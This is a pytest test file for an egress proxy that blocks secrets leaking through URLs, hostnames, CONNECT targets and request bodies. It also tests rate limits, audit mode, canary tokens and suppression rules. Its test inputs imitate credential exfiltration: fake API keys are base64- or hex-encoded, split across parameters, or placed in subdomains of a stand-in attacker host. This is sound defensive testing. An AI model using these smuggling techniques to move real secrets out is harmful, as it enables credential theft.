"""The URL pipeline enforced by the running proxy: secrets in query, path, host labels and
CONNECT targets are refused before any DNS lookup or upstream contact, with the reference's
block responses and audit events; the post-DNS stages (rate limit, length) and the
non-enforcing modes."""

import base64
import os
import subprocess

import pytest

from clients import curl, requests_session
from pltest import rawhttp
from pltest.util import GUARD

FAKE_AWS = "AKIAIOSFODNN7EXAMPLE"
FAKE_ANT = "sk-ant-api03-FAKEexampleKEYnotREAL0123"


def get(p, url, headers=()):
    return rawhttp.proxy_get(p.port, url, headers=list(headers))


@pytest.mark.parametrize(
    "path,scanner,pattern",
    [
        (f"/v1?key={FAKE_AWS}", "core_dlp", "AWS Access ID"),
        (f"/v1/{FAKE_ANT}/x", "dlp", "Anthropic API Key"),
        ("/v1?q=" + base64.b64encode(FAKE_ANT.encode()).decode().rstrip("="), "dlp",
         "Anthropic API Key"),
        ("/v1?q=" + FAKE_ANT.encode().hex(), "dlp", "Anthropic API Key"),
        ("/v1?a=sk-ant-&junk=1&b=api03-FAKEexampleKEY", "dlp", "Anthropic API Key"),
        ("/v1?card=4111%201111%201111%201111", "dlp", "Credit Card Number"),
    ],
)
def test_secret_in_url_is_blocked_before_the_origin(pipelock, origin, path, scanner, pattern):
    p = pipelock({"explain_blocks": True})
    r = get(p, origin.url(path))
    assert r.status == 403
    assert r.header("content-type").startswith("text/plain")
    assert r.body.startswith(b"blocked: DLP match: " + pattern.encode())
    assert r.header("x-pipelock-hint")
    origin.settle()
    assert not origin.requests, "a blocked request must never reach the origin"
    ev = p.wait_event("blocked", scanner=scanner)
    assert ev["url"].endswith("/[redacted]"), "a URL that carried a secret is logged redacted"
    assert FAKE_AWS not in p.stdout_text() and "FAKEexample" not in p.stdout_text()
    assert ev["mitre_technique"]


def test_secret_in_host_labels_is_blocked_before_dns(pipelock, dns):
    p = pipelock()
    host = "sk-ant-api03.fakeexamplekey0123.attacker.test"
    dns.set(host, "127.0.0.1")
    r = get(p, f"http://{host}/")
    assert r.status == 403 and b"Anthropic API Key" in r.body
    assert not dns.queried(host), "a denied name must never be resolved"


def test_connect_to_secret_host_is_blocked(pipelock, dns):
    p = pipelock()
    host = f"{FAKE_AWS.lower()}.attacker.test"
    r, _, s = rawhttp.connect_tunnel(p.port, f"{host}:443")
    s.close()
    assert r.status == 403
    assert r.body.startswith(b"CONNECT blocked: DLP match: AWS Access ID")
    assert not dns.queried(host)


def test_ordinary_urls_pass(pipelock, origin):
    p = pipelock()
    for path in ["/express/-/express-4.18.2.tgz",
                 "/packages/3f/a9/9f2f7cb9d5a27a3f3b1a9c0e1f5c9b2f7e6d4c3b2a19080706050403020100/x-1.2.3.tar.gz",
                 "/repos/o/r/commits/9fceb02d0ae598e95dc970b74767f19372d61af8",
                 "/search?q=how+to+parse+json&page=2&utm_source=newsletter",
                 "/v1/items/123e4567-e89b-12d3-a456-426614174000"]:
        r = get(p, origin.url(path))
        assert r.status == 200, (path, r.body)


def test_high_entropy_path_and_subdomain(pipelock, origin, dns):
    p = pipelock()
    seg = base64.b64encode(bytes(range(7, 7 + 48 * 5, 5))).decode().replace("/", "_")
    r = get(p, origin.url("/x/" + seg))
    assert r.status == 403 and b"high entropy" in r.body
    host = "a8kq2mz9xv4bn7wp3jr6ty5.attacker.test"
    r = get(p, f"http://{host}/")
    assert r.status == 403
    assert p.wait_event("blocked", scanner="subdomain_entropy")


def test_url_length_limit(pipelock, origin):
    p = pipelock({"fetch_proxy": {"monitoring": {"max_url_length": 100}}})
    base = origin.url("/")
    ok = base + "a" * (100 - len(base))
    assert get(p, ok).status == 200
    r = get(p, ok + "a")
    assert r.status == 403 and b"URL length" in r.body


def test_rate_limit_per_base_domain(pipelock, origin, dns):
    p = pipelock({"fetch_proxy": {"monitoring": {"max_requests_per_minute": 3}}})
    for name in ["a.ratelimited.test", "b.ratelimited.test", "c.ratelimited.test"]:
        dns.set(name, "127.0.0.1")
    urls = [f"http://{n}:{origin.port}/" for n in
            ["a.ratelimited.test", "b.ratelimited.test", "c.ratelimited.test"]]
    assert [get(p, u).status for u in urls] == [200, 200, 200]
    r = get(p, f"http://a.ratelimited.test:{origin.port}/again")
    assert r.status == 429, "subdomains share the base domain's bucket"
    assert p.wait_event("blocked", scanner="ratelimit")


def test_audit_mode_logs_instead_of_blocking(pipelock, origin):
    p = pipelock({"mode": "audit"})
    r = get(p, origin.url(f"/v1?key={FAKE_AWS}"))
    assert r.status == 200
    ev = p.wait_event("anomaly", scanner="core_dlp")
    assert ev["url"].endswith("/[redacted]")


def test_enforce_false_keeps_ssrf(pipelock):
    p = pipelock({"enforce": False}, allow_loopback=False)
    r = get(p, "http://127.0.0.1:9/")
    assert r.status == 403 and b"SSRF" in r.body


def test_user_pattern_warn_and_exempt(pipelock, origin):
    p = pipelock({"dlp": {"patterns": [
        {"name": "Ticket", "regex": "TCK-[0-9]{6}", "severity": "low", "action": "warn"},
        {"name": "Internal Ref", "regex": "REF-[0-9]{6}", "exempt_domains": ["127.0.0.1"]},
    ]}})
    assert get(p, origin.url("/x?t=TCK-123456")).status == 200
    ev = p.wait_event("dlp_warn", pattern="Ticket")
    assert ev["url"].endswith("/[redacted]")
    assert get(p, origin.url("/x?t=REF-123456")).status == 200


def test_bad_user_regex_is_a_config_error(tmp_path):
    f = tmp_path / "bad.yaml"
    f.write_text('dlp:\n  patterns:\n    - name: Broken One\n      regex: "(unclosed"\n')
    for argv in (["check", "-c", str(f)], ["run", "-c", str(f), "-l", "127.0.0.1:0"]):
        r = subprocess.run([os.environ["PIPELOCK_BIN"], *argv], capture_output=True, text=True,
                           timeout=GUARD)
        assert r.returncode == 1, (argv, r.stdout, r.stderr)
        assert "Broken One" in r.stderr


def test_env_secret_of_the_proxy_is_caught(pipelock, origin):
    secret = "zQ8vN2pX7rL4kT9mW3sB6yH1"
    p = pipelock(env={"MY_SERVICE_CREDENTIAL": secret})
    r = get(p, origin.url("/x?d=" + base64.b64encode(secret.encode()).decode()))
    assert r.status == 403 and b"Environment Variable Leak" in r.body


def test_canary_tokens_in_url_and_body(pipelock, origin):
    canary = "pl-canary-7Qx9Zk2WmB4v"
    p = pipelock({"canary_tokens": {"enabled": True, "tokens": [
        {"name": "deploy-key", "value": canary}]},
        "request_body_scanning": {"action": "block"}})
    r = get(p, origin.url("/x?k=" + canary.upper()))
    assert r.status == 403 and b"Canary Token (deploy-key)" in r.body
    r = get(p, origin.url("/x?k=" + base64.b64encode(canary.encode()).decode()))
    assert r.status == 403 and b"Canary Token (deploy-key)" in r.body
    body = ('{"note": "' + canary + '"}').encode()
    r = rawhttp.proxy_get(p.port, origin.url("/post"), method="POST", body=body,
                          headers=[("Content-Type", "application/json")])
    assert r.status == 403 and b"Canary Token (deploy-key)" in r.body
    assert canary not in p.stdout_text()


def test_suppress_silences_a_standard_finding_but_never_a_core_one(pipelock, origin):
    card = "4111111111111111"
    p = pipelock({"suppress": [
        {"rule": "Credit Card Number", "path": origin.url("/test-cards/"), "reason": "fixtures"},
        {"rule": "AWS Access ID", "path": origin.url("/test-cards/")},
    ], "request_body_scanning": {"action": "block"}})
    assert get(p, origin.url("/test-cards/x?c=" + card)).status == 200
    assert get(p, origin.url("/other?c=" + card)).status == 403
    # the core floor cannot be suppressed
    assert get(p, origin.url("/test-cards/x?k=AKIAIOSFODNN7EXAMPLE")).status == 403
    # the same suppression applies to request bodies for that URL
    r = rawhttp.proxy_get(p.port, origin.url("/test-cards/post"), method="POST",
                          body=("card " + card).encode(), headers=[("Content-Type", "text/plain")])
    assert r.status == 200
